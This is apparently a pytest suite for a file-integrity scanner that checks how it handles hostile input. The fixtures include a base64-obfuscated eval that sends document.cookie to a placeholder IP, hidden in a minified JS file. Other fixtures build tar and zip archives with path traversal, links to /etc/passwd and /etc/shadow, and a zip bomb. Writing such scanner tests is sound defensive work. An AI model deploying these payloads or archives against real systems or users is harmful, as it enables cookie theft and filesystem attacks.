"""Hostile file *content* through `integrity scan` / `baseline build` / `verify`.

The structural cases (symlinks, FIFOs, devices, bad names, archive traversal and bombs at the
source level) are in tests/unit/sources/* and tests/e2e/test_foundation.py; here: deep nesting,
huge single lines, odd encodings, parser crashers, and archives end to end through the CLI.
Every run must finish in bounded time with exit 0/1 (never 3 or 4), record every file, and still
report the backdoor planted among the hostile files, at its path and line.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.corpus import (
    MIB,
    PLANTED,
    PLANTED_LINE,
    PLANTED_PATH,
    PLANTED_RULE,
    all_cases,
    minified,
    write_tree,
)

CONFIG = "parse_timeout = 2\n"


def _cli(*args: str, cwd: Path, timeout: float = 240) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "integrity", *args, "--quiet"],
        capture_output=True,
        env={**os.environ, "INTEGRITY_CACHE_DIR": str(cwd / ".cache")},
        text=True,
        cwd=cwd,
        timeout=timeout,
        check=False,
    )


def _findings(out: str) -> list[dict[str, Any]]:
    doc = json.loads(out)
    findings: list[dict[str, Any]] = doc["findings"]
    return findings


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    (work / "integrity.toml").write_text(CONFIG)
    return work


@pytest.mark.slow
def test_hostile_corpus_scans_in_bounded_time_and_keeps_the_planted_finding(
    tmp_path: Path, workdir: Path
) -> None:
    cases = all_cases()
    root = write_tree(tmp_path / "tree", cases)
    started = time.monotonic()
    result = _cli("scan", str(root), "--format", "json", "-j", "2", cwd=workdir)
    elapsed = time.monotonic() - started
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert elapsed < 150, f"hostile corpus took {elapsed:.0f}s"
    doc = json.loads(result.stdout)
    assert doc["summary"]["stats"]["files"] == len(cases)
    planted = [f for f in doc["findings"] if f["rule_id"] == PLANTED_RULE]
    assert [(f["path"], f["start_line"]) for f in planted] == [(PLANTED_PATH, PLANTED_LINE)]
    # the cmake file that parses in super-linear time is cut off by the budget and says so
    cut = [f for f in doc["findings"] if f["path"] == "crash/CMakeLists.txt"]
    assert [(f["rule_id"], f["severity"]) for f in cut] == [("not-inspected", "info")]
    assert "parse_timeout" in cut[0]["message"]


def test_ten_mib_minified_line_is_hashed_and_reported_not_inspected(
    tmp_path: Path, workdir: Path
) -> None:
    root = write_tree(tmp_path / "tree", {"dist/app.min.js": minified(10 * MIB)})
    result = _cli("scan", str(root), "--format", "json", cwd=workdir)
    assert result.returncode == 0, result.stderr
    found = _findings(result.stdout)
    assert [(f["rule_id"], f["path"], f["category"]) for f in found] == [
        ("not-inspected", "dist/app.min.js", "unsafe-input")
    ]
    assert "max_file_size" in found[0]["message"]


@pytest.mark.slow
def test_four_mib_minified_line_is_inspected_in_bounded_time(tmp_path: Path, workdir: Path) -> None:
    backdoor = b";eval(atob('ZmV0Y2goImh0dHA6Ly8xOTguNTEuMTAwLjcvIitkb2N1bWVudC5jb29raWUp'));"
    data = minified(2 * MIB) + backdoor + minified(2 * MIB)
    root = write_tree(tmp_path / "tree", {"dist/app.min.js": data})
    started = time.monotonic()
    result = _cli("scan", str(root), "--format", "json", cwd=workdir)
    assert time.monotonic() - started < 120
    assert result.returncode in (0, 1), result.stderr
    found = _findings(result.stdout)
    assert all(f["path"] == "dist/app.min.js" for f in found)
    assert all(f["start_line"] in (0, 1) for f in found)
    assert not any(
        f["rule_id"] == "not-inspected" and "max_file_size" in f["message"] for f in found
    )


def test_encodings_are_recorded_and_utf16_is_flagged_opaque(tmp_path: Path, workdir: Path) -> None:
    from tests.hostile.corpus import encodings

    cases = encodings()
    root = write_tree(tmp_path / "tree", cases)
    baseline = tmp_path / "base.json"
    built = _cli("baseline", "build", str(root), "-o", str(baseline), cwd=workdir)
    assert built.returncode == 0, built.stderr
    doc = json.loads(baseline.read_text())
    assert sorted(f["path"] for f in doc["files"]) == sorted(cases)
    verified = _cli(
        "verify", str(root), "--baseline", str(baseline), "--format", "json", cwd=workdir
    )
    assert verified.returncode == 0, verified.stderr
    assert json.loads(verified.stdout)["changes"] == []
    scan = _cli("scan", str(root), "--format", "json", cwd=workdir)
    assert scan.returncode in (0, 1), scan.stderr
    opaque = {f["path"] for f in _findings(scan.stdout) if f["category"] == "opaque-binary"}
    # UTF-16 source is unreadable to every text rule: it must not pass silently
    assert {"enc/utf16le.py", "enc/utf16be.py"} <= opaque


def _tar_with(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE) -> tuple[Any, Any]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
        info.linkname = data.decode()
        return info, None
    return info, data if kind == tarfile.REGTYPE else None


def test_hostile_tar_through_scan_and_verify(tmp_path: Path, workdir: Path) -> None:
    outside = tmp_path / "escaped"
    archive = tmp_path / "rel-1.0.tar.gz"
    archive.write_bytes(
        _tar_with(
            [
                _member("rel-1.0/src/login.py", PLANTED),
                _member("rel-1.0/../../escaped/evil.py", b"import os\n"),
                _member("/abs/evil.py", b"x = 1\n"),
                _member("rel-1.0/passwd", b"/etc/passwd", tarfile.SYMTYPE),
                _member("rel-1.0/hard", b"/etc/shadow", tarfile.LNKTYPE),
                _member("rel-1.0/dev", b"", tarfile.CHRTYPE),
                _member("rel-1.0/fifo", b"", tarfile.FIFOTYPE),
                _member("rel-1.0/src/login.py", b"x = 2\n"),
            ]
        )
    )
    scan = _cli("scan", str(archive), "--format", "json", cwd=workdir)
    assert scan.returncode == 1, scan.stderr
    found = _findings(scan.stdout)
    unsafe = {f["path"] for f in found if f["category"] == "unsafe-input"}
    assert len(unsafe) >= 5, unsafe
    assert not outside.exists()
    assert not (tmp_path / "abs").exists()
    baseline = tmp_path / "base.json"
    built = _cli("baseline", "build", str(archive), "-o", str(baseline), cwd=workdir)
    assert built.returncode == 1, built.stderr  # the hostile entries are reported (high)
    assert "unsafe-entry" in built.stdout
    verify = _cli(
        "verify", str(archive), "--baseline", str(baseline), "--format", "json", cwd=workdir
    )
    assert verify.returncode in (0, 1), verify.stderr
    # the baseline keeps the first copy of a duplicated member: only the duplicate still differs
    changes = json.loads(verify.stdout)["changes"]
    assert {c["path"] for c in changes} <= {"src/login.py"}


def test_zip_bomb_and_traversal_through_scan(tmp_path: Path, workdir: Path) -> None:
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("pkg/ok.py", PLANTED)
        zf.writestr("pkg/zeros.bin", bytes(64 * MIB))  # ratio ~1000:1
        zf.writestr("../../escape.py", b"import os\n")
    started = time.monotonic()
    scan = _cli("scan", str(archive), "--format", "json", cwd=workdir)
    assert time.monotonic() - started < 60
    assert scan.returncode == 1, scan.stderr
    found = _findings(scan.stdout)
    by_path = {f["path"]: f for f in found if f["category"] == "unsafe-input"}
    assert any("zeros.bin" in p for p in by_path), by_path
    assert any("escape.py" in p for p in by_path), by_path
    planted = [f for f in found if f["rule_id"] == PLANTED_RULE]
    assert [(f["path"], f["start_line"]) for f in planted] == [("ok.py", PLANTED_LINE)] or [
        (f["path"], f["start_line"]) for f in planted
    ] == [("pkg/ok.py", PLANTED_LINE)]


def test_garbage_and_truncated_archives_exit_3(tmp_path: Path, workdir: Path) -> None:
    good = _tar_with([_member("a/b.py", b"x = 1\n" * 1000)])
    cases = {
        "garbage.tar.gz": b"\x1f\x8b\x08" + b"\x00" * 100,
        "truncated.tar.gz": good[: len(good) // 2],
        "empty.zip": b"PK\x05\x06" + b"\x00" * 18,
        "notzip.zip": b"PK\x03\x04garbage",
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        result = _cli("scan", str(path), "--format", "json", cwd=workdir)
        assert result.returncode in (0, 3), (name, result.returncode, result.stderr)
        assert "Traceback" not in result.stderr and "internal error" not in result.stderr, name
